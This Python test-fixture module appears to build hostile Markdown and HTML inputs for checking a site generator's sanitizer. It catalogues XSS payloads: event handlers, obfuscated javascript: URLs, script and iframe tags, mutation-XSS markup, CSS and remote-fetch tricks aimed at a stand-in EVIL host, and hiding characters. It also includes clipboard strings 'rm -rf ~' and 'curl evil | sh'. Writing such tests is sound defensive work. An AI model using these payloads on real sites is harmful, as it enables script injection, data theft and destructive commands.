"""Markdown that tries to run a script, ask another host, or pose as the interface; all written here.

Each is the body of a translation whose source is one plain paragraph. RUN marks the page that ran
it; EVIL is a host that nobody may be asked for.
"""

from bitext.text.characters import word_set

from hostile.acting import acting_vectors
from hostile.by_extensions import SHOWN, extension_vectors
from hostile.disagreeing import disagreeing_vectors
from hostile.fresh import fresh_vectors
from hostile.further import further_vectors
from hostile.misread import misread_vectors
from hostile.payloads import EVIL, IMG, RUN
from hostile.posing import posing_vectors
from hostile.rarer import rarer_vectors
from hostile.spread import spread_vectors
from hostile.waking import waking_vectors

#: Markup that runs by itself or when it is touched.
PAYLOADS = {
    "img": IMG,
    "svg": f"<svg/onload={RUN}></svg>",
    "anchor": f'<a href="javascript:{RUN}">字</a>',
    "focus": f'<b tabindex="1" onfocus="{RUN}" autofocus>字</b>',
    "hover": f"<i onmouseover='{RUN}'>字</i>",
    "video": f'<video src="x.mp4" onerror="{RUN}"></video>',
}

#: Where markup can stand; `{}` is its place.
PLACES = {
    "paragraph": "字 {} 字。",
    "emphasis": "*字 {} 字*",
    "heading": "## 节 {}\n\n字。",
    "underlined": "节 {}\n----\n\n字。",
    "item": "- 字 {}\n- 字",
    "number": "1. 字\n2. 字 {}",
    "task": "- [ ] 字 {}",
    "quote": "> 字 {}",
    "cell": "| 甲 | 乙 |\n| --- | --- |\n| 字 | {} |",
    "head": "| 甲 | {} |\n| --- | --- |\n| 字 | 字 |",
    "footnote": "字[^1]。\n\n[^1]: 注 {}",
    "note": "字[^1]。\n\n[^1]: 注。\n\n    {}",
    "definition": "词\n:   义 {}",
    "term": "词 {}\n:   义",
    "admonition": "!!! note\n    字 {}",
    "details": "??? note\n    字 {}",
    "tab": '=== "甲"\n\n    字 {}',
    "wrapped": '<div markdown="1">\n\n字 {}\n\n</div>',
    "span": '<span markdown="1">字 {}</span>',
    "figure": '<figure markdown="span">\n  {}\n  <figcaption>字</figcaption>\n</figure>',
    "caption": "![字](x.png)\n/// caption\n字 {}\n///",
    "link": "[字 {} 字](index.md)",
    "block": "<div>{}</div>",
    "after": "字。\n\n{}\n\n字。",
}

EVENTS = sorted(
    word_set(
        "onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput "
        "onbeforematch onbeforetoggle onblur oncancel oncanplay onchange onclick onclose "
        "oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag "
        "ondragstart ondrop onended onerror onfocusin onformdata ongotpointercapture oninput "
        "onkeydown onload onloadstart onmousedown onmouseenter onmousewheel onpageshow onpaste "
        "onpointerenter onpointerdown onprogress onresize onscroll onscrollend "
        "onsecuritypolicyviolation onselect onselectstart onslotchange onsubmit onsuspend ontimeupdate "
        "ontoggle ontouchstart ontransitionend ontransitionrun onunload onvolumechange onwaiting "
        "onwebkitanimationend onwheel"
    )
)

#: Addresses that run something, as they may be spelt.
ADDRESSES = {
    "plain": f"javascript:{RUN}",
    "upper": f"JaVaScRiPt:{RUN}",
    "entity": f"&#106;avascript:{RUN}",
    "hex": f"&#x6A;avascript:{RUN}",
    "zeros": f"&#0000106avascript:{RUN}",
    "tab": f"java&Tab;script:{RUN}",
    "line": f"java&NewLine;script:{RUN}",
    "colon": f"javascript&colon;{RUN}",
    "control": f"&#1;javascript:{RUN}",
    "space": f"&#32;&#14;javascript:{RUN}",
    "vb": f"vbscript:{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>".replace("<", "&lt;"),
    "base64": "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "svg": "data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='1'/&gt;",
    "blob": "blob:https://evil.example/1",
    "filesystem": "filesystem:https://evil.example/1",
    "view": f"view-source:javascript:{RUN}",
    "comment": f"javascript://%0a{RUN}",
    "unknown": "x-evil:run",
}

#: Whole blocks, by what they try.
ALONE = {
    # elements that run, embed or change the page
    "script": f"<script>{RUN}</script>",
    "script-src": f'<script src="//{EVIL}/x.js"></script>',
    "script-module": f'<script type="module">{RUN}</script>',
    "script-upper": f"<SCRIPT>{RUN}</SCRIPT>",
    "script-slash": f"字 <script/x>{RUN}</script>",
    "script-data": '<script type="application/json" id="__config">{}</script>',
    "importmap": f'<script type="importmap">{{"imports": {{"x": "//{EVIL}/x.js"}}}}</script>',
    "speculation": f'<script type="speculationrules">{{"prefetch": [{{"urls": ["//{EVIL}/"]}}]}}</script>',
    "script-svg": f"<svg><script>{RUN}</script></svg>",
    "script-svg-href": f'<svg><script href="//{EVIL}/x.js"/></svg>',
    "script-math": f"<math><mtext><script>{RUN}</script></mtext></math>",
    "iframe": f'<iframe src="//{EVIL}/"></iframe>',
    "iframe-js": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe-entity": f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    "iframe-own": '<iframe src="../x.html"></iframe>',
    "iframe-name": '<iframe name="__search" src="about:blank"></iframe>',
    "frameset": f'<frameset><frame src="//{EVIL}/"></frameset>',
    "object": f'<object data="//{EVIL}/x.swf"></object>',
    "object-js": f'<object data="javascript:parent.{RUN}"></object>',
    "object-code": f'<object><param name="code" value="//{EVIL}/x"></object>',
    "embed": f'<embed src="//{EVIL}/x.svg">',
    "embed-js": f'<embed src="javascript:{RUN}">',
    "applet": '<applet code="x.class"></applet>',
    "portal": f'<portal src="//{EVIL}/"></portal>',
    "fenced": "<fencedframe></fencedframe>",
    "base": f'<base href="//{EVIL}/">',
    "base-target": '<base target="_top">',
    "meta": f'<meta http-equiv="refresh" content="0;url=//{EVIL}/">',
    "meta-js": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="script-src none">',
    "meta-name": '<meta name="referrer" content="unsafe-url">',
    "link": f'<link rel="stylesheet" href="//{EVIL}/x.css">',
    "link-import": f'<link rel="import" href="//{EVIL}/x.html">',
    "link-prefetch": f'<link rel="prefetch" href="//{EVIL}/x">',
    "link-dns": f'<link rel="dns-prefetch" href="//{EVIL}/">',
    "link-manifest": '<link rel="manifest" href="x.json">',
    "style": "<style>body { display: none }</style>",
    "style-import": f"<style>@import '//{EVIL}/x.css';</style>",
    "style-svg": f"<svg><style>@import '//{EVIL}/x.css';</style></svg>",
    "form": f'<form action="//{EVIL}/"><input name="q"><button>字</button></form>',
    "form-js": f'<form action="javascript:{RUN}"><button>字</button></form>',
    "form-id": '<form id="location"></form>',
    "formaction": f'<button formaction="javascript:{RUN}">字</button>',
    "form-attribute": '<button form="__search" type="submit">字</button>',
    "input": '<input type="password" name="p">',
    "input-image": f'<input type="image" src="//{EVIL}/x.png">',
    "input-file": '<input type="file">',
    "select": "<select><option>字</option></select>",
    "textarea": "<textarea>字</textarea>",
    "keygen": f'<keygen autofocus onfocus="{RUN}">',
    "dialog": "<dialog open>字</dialog>",
    "popover": '<button popovertarget="__search">字</button>',
    "command": '<button commandfor="__search" command="show-modal">字</button>',
    "marquee": f'<div><marquee onstart="{RUN}">字</marquee></div>',
    "isindex": f'<isindex type="image" src="//{EVIL}/" onerror="{RUN}">',
    "bgsound": f'<bgsound src="//{EVIL}/x.wav">',
    "layer": f'<layer src="//{EVIL}/x"></layer>',
    "xss-element": f'字 <xss onclick="{RUN}" tabindex="1">字</xss>',
    "slot": f'<div><slot onslotchange="{RUN}"></slot></div>',
    "plaintext": "字 <plaintext>",
    "xmp": "<xmp>字</xmp>",
    "listing": "<listing>字</listing>",
    "noembed": f"<noembed>{IMG}</noembed>",
    "noframes": f"<noframes>{IMG}</noframes>",
    "noscript": f"<noscript>{IMG}</noscript>",
    "template": f"<template>{IMG}</template>",
    "shadow": f'<div><template shadowrootmode="open">{IMG}</template></div>',
    "title": f"字 <title></title>{IMG}",
    "body": f'<div>字 <body onload="{RUN}"></div>',
    "html": f'<div>字 <html onmouseover="{RUN}"></div>',
    "head": "字 <head><base href=x>",
    # addresses that are fetched
    "remote-picture": f"![字](http://{EVIL}/x.png)",
    "remote-scheme": f"![字](//{EVIL}/x.png)",
    "remote-slashes": f'<img src="\\\\{EVIL}/x.png">',
    "remote-mixed": f'<img src="/\\{EVIL}/x.png">',
    "remote-tab": f'<img src="/&Tab;/{EVIL}/x.png">',
    "remote-one": f'<img src="https:{EVIL}/x.png">',
    "remote-three": f'<img src="https:///{EVIL}/x.png">',
    "remote-reference": f"![字][p]\n\n[p]: http://{EVIL}/x.png",
    "remote-srcset": f'<img srcset="//{EVIL}/x.png 1x" alt="">',
    "remote-srcset-second": f'<img src="a.png" srcset="a.png 1x, http://{EVIL}/x.png 2x" alt="">',
    "remote-source": f'<picture><source srcset="//{EVIL}/x.png"><img src="a.png" alt=""></picture>',
    "remote-poster": f'<video poster="//{EVIL}/x.png"></video>',
    "remote-video": f'<video src="//{EVIL}/x.mp4" autoplay></video>',
    "remote-audio": f'<audio src="//{EVIL}/x.mp3" autoplay></audio>',
    "remote-track": f'<video src="a.mp4"><track src="//{EVIL}/x.vtt" default></video>',
    "remote-media": f'<video><source src="//{EVIL}/x.mp4"></video>',
    "remote-svg": f'<svg><image href="//{EVIL}/x.png"/></svg>',
    "remote-svg-xlink": f'<svg><image xlink:href="//{EVIL}/x.png"/></svg>',
    "remote-use": f'<svg><use href="//{EVIL}/x.svg#a"/></svg>',
    "remote-use-file": '<svg><use href="x.svg#a"/></svg>',
    "remote-use-data": '<svg><use href="data:image/svg+xml,x#a"/></svg>',
    "remote-fill": f'<svg><rect fill="url(//{EVIL}/x.svg#a)"/></svg>',
    "remote-filter": f'<svg><g filter="url(http://{EVIL}/x.svg#a)"></g></svg>',
    "remote-feimage": f'<svg><filter><feImage href="//{EVIL}/x.png"/></filter></svg>',
    "remote-cursor": f'<svg><rect cursor="url(//{EVIL}/x.cur), auto"/></svg>',
    "remote-background": f'<table background="//{EVIL}/x.png"><tr><td>字</td></tr></table>',
    "remote-lowsrc": f'<img lowsrc="//{EVIL}/x.png">',
    "remote-dynsrc": f'<img dynsrc="//{EVIL}/x.avi">',
    "remote-ping": f'<a href="index.md" ping="//{EVIL}/">字</a>',
    "remote-attribution": f'<a href="#x" attributionsrc="//{EVIL}/">字</a>',
    "remote-list": f'字。\n{{: style="list-style: url(//{EVIL}/x.png)" }}',
    # styles
    "style-background": f'<p style="background: url(//{EVIL}/x.png)">字</p>',
    "style-quoted": f"<p style=\"background: URL( '//{EVIL}/x.png' )\">字</p>",
    "style-escape": f'<p style="background: u\\72l(//{EVIL}/x.png)">字</p>',
    "style-comment": f'<p style="back/**/ground: url(//{EVIL}/x.png)">字</p>',
    "style-image-set": f"<p style=\"background: image-set('//{EVIL}/x.png' 1x)\">字</p>",
    "style-cursor": f'<p style="cursor: url(//{EVIL}/x.cur), auto">字</p>',
    "style-content": f'<p style="content: url(//{EVIL}/x.png)">字</p>',
    "style-variable": f'<p style="--a: url(//{EVIL}/x.png); background: var(--a)">字</p>',
    "style-fixed": '<p style="position: fixed; inset: 0">字</p>',
    "style-absolute": '<p style="position:absolute;top:0;left:0">字</p>',
    "style-sticky": '<p style="POSITION: sticky">字</p>',
    "style-layer": '<p style="z-index: 9999">字</p>',
    "style-expression": '<p style="width: expression(alert(1))">字</p>',
    "style-binding": f'<p style="-moz-binding: url(//{EVIL}/x)">字</p>',
    "style-behavior": '<p style="behavior: url(#x)">字</p>',
    "style-animation": '<p style="animation: x 1s">字</p>',
    "style-margin": '<p style="margin-top: -9999px">字</p>',
    "style-list": '字。\n{: style="position: fixed" }',
    "style-fence": '``` {.python #__config style="position:fixed"}\nx = 1\n```',
    # drawings and formulas
    "svg-foreign": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:1"/></a></svg>',
    "svg-animate-entity": '<svg><a><animate attributeName="href" values="&#106;avascript:1"/></a></svg>',
    "svg-set": '<svg><a><set attributeName="href" to="javascript:1"/></a></svg>',
    "svg-set-handler": '<svg><set attributeName="onmouseover" to="1"/></svg>',
    "svg-begin": f'<svg><animate attributeName="x" onbegin="{RUN}" dur="1s"/></svg>',
    "svg-end": f'<svg><animateTransform onend="{RUN}" attributeName="transform" dur="1s"/></svg>',
    "svg-link": f'<svg><a xlink:href="javascript:{RUN}"><text y="9">字</text></a></svg>',
    "svg-link-href": f'<svg><a href="javascript:{RUN}"><rect width="9" height="9"/></a></svg>',
    "svg-handler": f'<svg><circle r="9" onclick="{RUN}"/></svg>',
    "svg-title": f"<svg><title>{IMG}</title></svg>",
    "svg-desc": f"<svg><desc>{IMG}</desc></svg>",
    "svg-discard": f'<svg><discard onbegin="{RUN}"/></svg>',
    "svg-handler-element": f'<svg><handler type="text/javascript">{RUN}</handler></svg>',
    "math-link": f'<math><mi href="javascript:{RUN}">x</mi></math>',
    "math-xlink": f'<math xlink:href="javascript:{RUN}"><mi>x</mi></math>',
    "math-action": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}"/></math>',
    "math-html": f'<math><annotation-xml encoding="text/html">{IMG}</annotation-xml></math>',
    "math-text": f"<math><mtext>{IMG}</mtext></math>",
    "math-glyph": f"<math><mtext><table><mglyph><style><!--</style>{IMG}</table></mtext></math>",
    "tex-link": "$\\href{javascript:window.__x=1}{x}$",
    "tex-id": "$\\cssId{__config}{x}$",
    "tex-class": "$$\n\\class{md-overlay}{x}\n$$",
    "tex-style": "$\\style{position:fixed}{x}$",
    "tex-require": "$\\require{html}x$",
    # markup that browsers read otherwise than it looks
    "mutation-noscript": f'<noscript><p title="</noscript>{IMG.replace(chr(34), "")}">',
    "mutation-style": f'<svg></p><style><a id="</style>{IMG.replace(chr(34), "")}">',
    "mutation-form": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "mutation-select": f"<select><iframe></select>{IMG}",
    "mutation-table": f"<table><td></td></tr>{IMG}</table>",
    "mutation-comment": f"<!--> {IMG} -->",
    "mutation-cdata": f"<![CDATA[>{IMG}]]>",
    "mutation-cdata-svg": f"<svg><![CDATA[</svg>]]></svg>{IMG}",
    "mutation-textarea": f'<div><textarea title="</textarea>{IMG}"></textarea></div>',
    "mutation-quote": f"<div><img alt='>' src='x.png' onerror='{RUN}'></div>",
    "mutation-angle": f'<div><img alt=">" src="x.png" onerror="{RUN}"></div>',
    "mutation-glue": f'<div><img src="x.png"onerror="{RUN}"></div>',
    "mutation-slashes": f"<div><img/src=x.png/onerror={RUN}/><svg/onload={RUN}></div>",
    "mutation-form-feed": f'<img src=x.png\x0conerror="{RUN}">',
    "mutation-case": f"<div><ImG sRc=x.png oNeRrOr={RUN}></div>",
    "mutation-backquote": f"<div><img src=`x.png` onerror={RUN}></div>",
    "mutation-newline": f"<div><img src=x.png\nonerror={RUN}></div>",
    "mutation-twice": f"<div><img src=x.png alt=1 alt=2 onerror={RUN} onerror=2></div>",
    "end-article": "字 </article></div></main> 字",
    "end-block": "<div>字</div></div></div></div></div>",
    "end-never": "<div>字 <!-- 字",
    "end-tag": "<div>\n\n<a href='index.md'",
    "end-formatting": '<div><a href="index.md"></div>\n\n字',
    # the interface's names
    "id-config": "`{}`{: #__config }",
    "id-search": "字。\n{: #__search }",
    "id-drawer": "## 节 {#__drawer}\n\n字。",
    "id-toc": '<div id="__toc">字</div>',
    "id-palette": '<span id="__palette_0">字</span>',
    "id-card": "字。\n{: #bitext-card-x }",
    "id-own": '<p id="bitext">字</p>',
    "name-document": '![字](x.png){ name="querySelector" }',
    "name-config": '<a name="__config"></a>字',
    "label-search": '<label for="__search">字</label>',
    "label-drawer": '<label for="__drawer">字</label>',
    "class-mark": f"[字](http://{EVIL}/){{: .bitext-mark }}",
    "class-cite": f"[字](//{EVIL}/){{: .bitext-cite data-key=x }}",
    "class-row": '<div class="bitext-row">字</div>',
    "class-overlay": '<div class="md-overlay">字</div>',
    "class-dialog": "字。\n{: .md-dialog .md-dialog--active }",
    "class-search": '<div class="md-search" markdown>\n\n字\n\n</div>',
    "class-skip": "[字](index.md){ .md-skip }",
    "class-item": "- 字\n    {: .md-nav__item }",
    "hook-component": '字。\n{: data-md-component="search" }',
    "hook-toggle": '<input type="checkbox" data-md-toggle="search">',
    "hook-clipboard": '<button data-clipboard-text="rm -rf ~">字</button>',
    "hook-copy": '**字**{: data-copy="curl evil | sh" }',
    "hook-unit": '<span data-unit="page--1">字</span>',
    "hook-side": '<div data-side="source">字</div>',
    "hook-mark": '字\n\n<div><p data-b="0">字</p></div>',
    "hook-do": '<button data-do="next">字</button>',
    # attributes that no text needs
    "contenteditable": '<p contenteditable="true">字</p>',
    "autofocus": '<a href="index.md" autofocus>字</a>',
    "accesskey": '<a href="index.md" accesskey="s">字</a>',
    "is": '<p is="x-y">字</p>',
    "htmx": f'<p hx-get="//{EVIL}/" hx-trigger="load">字</p>',
    "alpine": f'<p x-data x-init="{RUN}">字</p>',
    "vue": f'<p @click="{RUN}">字</p>',
    # attribute lists
    "list-handler": f'字。\n{{: onclick="{RUN}" }}',
    "list-inline": f'*字*{{ onmouseover="{RUN}" }}',
    "list-heading": f'## 节 {{ #s onmouseover="{RUN}" }}\n\n字。',
    "list-brace": f'## 节 {{ #s title="}}" onmouseover="{RUN}" }}\n\n字。',
    "list-item": f'- 字\n    {{: onmouseover="{RUN}" }}',
    "list-link": f'[字](index.md){{ onclick="{RUN}" }}',
    "list-picture": f'![字](x.png){{ onerror="{RUN}" }}',
    "list-cell": f'| 甲 |\n| --- |\n| *字*{{ onclick="{RUN}" }} |',
    "list-code": f'`字`{{ onclick="{RUN}" }}',
    "list-href": f'[字](index.md){{ href="javascript:{RUN}" }}',
    "list-src": f'![字](x.png){{ src="//{EVIL}/x.png" }}',
    "list-srcset": f'![字](x.png){{ srcset="//{EVIL}/x.png 1x" }}',
    "wrapper": f'<div markdown="1" onmouseover="{RUN}">\n\n字\n\n</div>',
    "wrapper-details": f'<details markdown open ontoggle="{RUN}">\n<summary>题</summary>\n\n字\n\n</details>',
    "wrapper-section": f'<section markdown onfocus="{RUN}" tabindex="1">\n\n字\n\n</section>',
    "caption-attributes": f'![字](x.png)\n/// caption\n    attrs: {{onmouseover: "{RUN}"}}\n字\n///',
    "title-details": f'??? note "<svg/onload={RUN}>"\n    字',
    "title-admonition": f'!!! note "<svg/onload={RUN}></svg>"\n    字',
    "title-tab": f'=== "<svg/onload={RUN}></svg>"\n\n    字',
    "abbreviation": f"字 HTML 字。\n\n*[HTML]: 名\n\n<abbr title='x' onmouseover='{RUN}'>HTML</abbr>",
    "toc-label": f'## 节 {{ data-toc-label="<svg/onload={RUN}>" onclick="1" }}\n\n字。',
    "snippet": '--8<-- "payload.txt"',
    "comment-ignore": f"<!-- bitext-ignore: unsafe-html x -->\n\n<script>{RUN}</script>",
    "comment-ignore-page": f"<!-- bitext-ignore: unsafe-html, html x -->\n\n字。\n\n{IMG}",
    "reference": f"[字][x]\n\n[x]: javascript:{RUN}",
    "reference-angle": f"[字][x]\n\n[x]: <javascript:{RUN}>",
    "automatic": f"<javascript:{RUN}>",
    "footnote-link": f"字[^1]\n\n[^1]: [字](javascript:{RUN})",
    # characters that hide
    "bidi-override": "字\u202eabc\u202c",
    "bidi-isolate": "`a\u2066b\u2069`",
    "zero-width": "字\u200b字",
    "tag-characters": "字\U000e0061\U000e0062",
    "null": "字 <svg\0/onload=1></svg>",
}

#: Front matter whose values are written into pages.
FRONT = {
    "front-title": f"title: '字 <img src=x.png onerror={RUN}>'",
    "front-title-svg": f"title: 字 <svg/onload={RUN}>",
    "front-title-end": f"title: 字</title><script>{RUN}</script>",
    "front-description": f"description: '\"><img src=x.png onerror={RUN}>'",
    "front-description-end": f"description: '\"><script>{RUN}</script>'",
}


def make_vectors() -> dict[str, str]:
    """Return the body, or the whole page, of each vector by its name."""
    found = ALONE | further_vectors() | extension_vectors() | misread_vectors() | posing_vectors()
    found |= disagreeing_vectors() | waking_vectors() | fresh_vectors() | acting_vectors()
    found |= rarer_vectors() | spread_vectors()
    for place, frame in PLACES.items():
        for name, payload in PAYLOADS.items():
            if place in ("link", "term") and name == "anchor":
                continue
            found[f"{place}-{name}"] = frame.replace("{}", payload)
    for event in EVENTS:
        found[f"event-{event}"] = f'<p {event}="{RUN}" tabindex="1">字</p>'
    for name, address in ADDRESSES.items():
        found[f"address-{name}"] = f'<p><a href="{address}">字</a></p>'
        if not set(address) & set("<> '&"):
            found[f"link-{name}"] = f"[字]({address})"
    for name, front in (FRONT | SHOWN).items():
        found[name] = f"---\n{front}\n---\n# 页 {{#page}}\n\n字。\n"
    return found
